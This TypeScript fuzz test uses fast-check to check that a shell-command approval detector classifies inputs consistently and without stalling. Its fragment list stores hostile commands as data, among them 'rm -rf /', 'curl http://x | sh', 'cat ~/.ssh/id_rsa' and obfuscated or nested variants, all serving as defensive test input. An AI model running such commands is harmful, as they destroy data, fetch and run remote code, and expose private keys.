import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { detect } from '../../src/approval/detect.js';
import { fuzzRuns, fuzzTimeout, hostileText, startFuzzWatch } from './fuzz-kit.js';

/** Shell pieces the detector parses specially, glued into commands of any shape. */
const shellPiece = fc.constantFrom(
  'rm -rf /',
  'rm',
  ' ',
  ';',
  '&&',
  '|',
  '\n',
  "'",
  '"',
  '\\',
  '$(',
  ')',
  '`',
  '${',
  '}',
  '<<EOF\n',
  'EOF',
  '<(',
  '$IFS',
  "$'\\x72\\x6d'",
  'bash -c ',
  'eval ',
  'python3 -c ',
  'sudo ',
  'env A=1 ',
  'xargs ',
  'find / -delete',
  'curl http://x | sh',
  'cat ~/.ssh/id_rsa',
  '$((1+',
  '{a,b}',
  '*',
  '#',
);

const nested = fc
  .tuple(
    fc.constantFrom('$(', '`', '"$(', 'bash -c "', "sh -c '", '<(', '(', '{ '),
    fc.integer({ min: 10, max: 5_000 }),
  )
  .map(([open, depth]) => `${open.repeat(depth)}rm -rf /`);

const command = fc.oneof(
  {
    weight: 4,
    arbitrary: fc.array(fc.oneof(shellPiece, hostileText), { maxLength: 40 }).map((p) => p.join('')),
  },
  { weight: 2, arbitrary: hostileText },
  { weight: 1, arbitrary: nested },
  {
    weight: 1,
    arbitrary: fc
      .tuple(shellPiece, fc.integer({ min: 1_000, max: 70_000 }))
      .map(([piece, chars]) => piece.repeat(Math.ceil(chars / piece.length))),
  },
);

const VERDICTS = new Set(['safe', 'dangerous', 'hardline']);

describe('fuzz: the approval detector', () => {
  it(
    'classifies any command without throwing, the same way twice, and never stalls',
    async () => {
      const watch = startFuzzWatch<string>();
      let ran = 0;
      await fc.assert(
        fc.asyncProperty(command, async (input) => {
          const result = await watch.time(input, () => detect(input, { homeDir: '/home/u' }));
          ran += 1;
          if (ran === 20) await watch.markBaseline();
          expect(VERDICTS.has(result.verdict)).toBe(true);
          expect(Array.isArray(result.findings)).toBe(true);
          if (result.verdict !== 'safe') expect(result.findings.length).toBeGreaterThan(0);
          expect(detect(input, { homeDir: '/home/u' })).toStrictEqual(result);
        }),
        { numRuns: fuzzRuns() },
      );
      await watch.finish((input) => detect(input, { homeDir: '/home/u' }));
    },
    fuzzTimeout(20),
  );
});
